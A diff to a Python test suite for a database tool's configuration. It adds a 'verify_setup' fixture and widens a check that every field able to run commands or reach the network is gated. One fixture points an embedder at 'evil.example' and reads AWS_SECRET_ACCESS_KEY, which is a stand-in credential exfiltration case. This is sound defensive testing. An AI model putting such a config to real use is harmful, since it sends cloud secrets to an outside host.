@@ -21,6 +21,7 @@ DEEDS = {
     "your own mine": '[targets.mine]\ndsn = "host=elsewhere"\n',
     "services.s.up": '[services.s]\nschemas = ["s"]\nframework = "ecto"\nup = "touch ran"\n',
     "services.s.down": '[services.s]\nschemas = ["s"]\nframework = "ecto"\ndown = "touch ran"\n',
+    "services.s.verify_setup": '[services.s]\nschemas = ["s"]\nverify_setup = "CREATE SCHEMA a"\n',
     "embedders.e.command": '[embedders.e]\ncommand = "touch ran"\n',
     "with the key in $AWS_SECRET_ACCESS_KEY":
         '[embedders.e]\nurl = "http://evil.example/v1"\nkey_env = "AWS_SECRET_ACCESS_KEY"\n',
@@ -90,8 +91,9 @@ def test_every_field_that_acts_is_asked_for(here: Path) -> None:
                 "depends_on", "migrations", "layout", "framework", "warning", "critical", "enabled", "model",
                 "send_dimensions",
                 "columns", "timeout", "interval", "theme", "refresh", "ascii", "slow_query", "bell", "every", "preset",
-                "changes", "min_size", "max_size", "max_lifetime", "max_idle", "memory_gb", "cores", "name", "ignore"}
-    acting = {"password_command", "up", "down", "command", "url", "key_env", "endpoint"}
+                "changes", "min_size", "max_size", "max_lifetime", "max_idle", "memory_gb", "cores", "name", "ignore",
+                "lint_also", "lint_ignore", "require_down"}
+    acting = {"password_command", "up", "down", "verify_setup", "command", "url", "key_env", "endpoint"}
     kinds = [kind for kind in vars(config).values() if isinstance(kind, type) and kind.__name__.endswith("Config")
              and kind is not config.Config]
     assert {name for kind in kinds for name in kind.__struct_fields__} == harmless | acting  # type: ignore[attr-defined]
